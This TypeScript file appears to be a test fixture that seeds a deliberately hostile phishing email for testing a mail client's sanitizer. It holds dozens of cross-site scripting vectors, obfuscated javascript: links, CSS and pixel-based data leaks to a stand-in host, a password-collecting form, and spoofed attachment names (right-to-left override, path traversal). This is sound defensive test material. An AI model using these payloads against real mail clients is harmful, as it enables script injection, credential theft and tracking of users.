import { ago } from './days';
import type { MailSeed } from './mail-seed';

/** Every trick sets this global variable, so that a test can ask each window whether one of them worked. */
export const hostileMark = 'mailScriptRan';

const attack = `try{top.${hostileMark}=true}catch(e){}try{parent.${hostileMark}=true}catch(e){}window.${hostileMark}=true`;

/** A mail that tries to run scripts, to load and to send things, and to cover what is around it. */
export const hostileMail: MailSeed = {
  key: 'hostile',
  from: { name: 'Security <b>Team</b> "><script>', address: 'security@phish.example' },
  subject: '"><img src=x onerror=alert(1)> Urgent: verify your account </title><script>',
  date: ago(0, 16),
  isRead: false,
  importance: 'high',
  html: `<html><head>
<base href="https://phish.example/">
<meta http-equiv="refresh" content="0; url=https://phish.example/moved">
<link rel="stylesheet" href="https://phish.example/style.css">
<style>
  @import url("https://phish.example/import.css");
  body { background: url("https://phish.example/pixel.gif?from=css"); }
  * { position: static; color: inherit; }
  .cover { position: fixed; inset: 0; z-index: 2147483647; background: #ffffff; }
  .old { width: expression(${attack}); behavior: url(#default#time2); -moz-binding: url("https://phish.example/x.xml#x"); }
  input[value^="a"] { background: url("https://phish.example/leak?a"); }
</style>
<script>${attack}</script>
<script src="https://phish.example/evil.js"></script>
<title>Outlook</title>
</head>
<body onload="${attack}" onpageshow="${attack}">
<div class="cover" style="position:fixed;top:0;left:0;width:100%;height:100%"><h1>Session expired</h1></div>
<p class="old">Dear user, your mailbox is full. Please verify your password <b>today</b>.</p>
<form action="https://phish.example/collect" method="post" id="f">
  <label>Password <input type="password" name="password" autofocus onfocus="${attack}"></label>
  <input type="submit" value="Verify" formaction="javascript:${attack}">
</form>
<p><a href="javascript:${attack}">Verify now</a>
 <a href="&#106;&#97;&#118;&#97;&#115;cript:${attack}">or here</a>
 <a href=" java&#10;script:${attack}">or there</a>
 <a href="data:text/html,<script>${attack}</script>">or with data</a>
 <a href="vbscript:msgbox(1)">or the old way</a>
 <a href="https://phish.example/login" target="_top">https://login.example.com/</a></p>
<img src="x" onerror="${attack}" alt="">
<img src="https://phish.example/pixel.gif?id=adele%40example.com" width="1" height="1" alt="">
<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><script>${attack}</script><a xlink:href="javascript:${attack}"><text y="20">Click</text></a><animate onbegin="${attack}" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;"></table></mtext></math>
<iframe src="https://phish.example/frame"></iframe>
<iframe srcdoc="<script>${attack}</script>"></iframe>
<object data="https://phish.example/movie.swf"></object><embed src="javascript:${attack}">
<video poster="https://phish.example/poster"><source onerror="${attack}"></video>
<details open ontoggle="${attack}"><summary>More</summary>Hidden text</details>
<marquee onstart="${attack}">Act now</marquee>
<input autofocus onfocus="${attack}" value="adele"><button popovertarget="x" onclick="${attack}">Close</button>
<template><script>${attack}</script></template>
<noscript><p title="</noscript><img src=x onerror=${attack}>">Enable scripts</p></noscript>
<div style="display:none">Invisible words that nobody wrote for a person.</div>
<textarea></textarea><img src=x onerror=${attack}></textarea>
<!--><img src=x onerror=${attack}>-->
<p>Unclosed <b>bold <i>italic <table><tr><td>cell
</body></html>`,
  attachments: [
    {
      name: '../../Invoice\u202Efdp.exe',
      contentType: 'application/octet-stream',
      content: 'not really a program',
    },
    {
      name: '<img src=x onerror=alert(1)>.html',
      contentType: 'text/html',
      content: `<script>${attack}</script>`,
    },
  ],
};
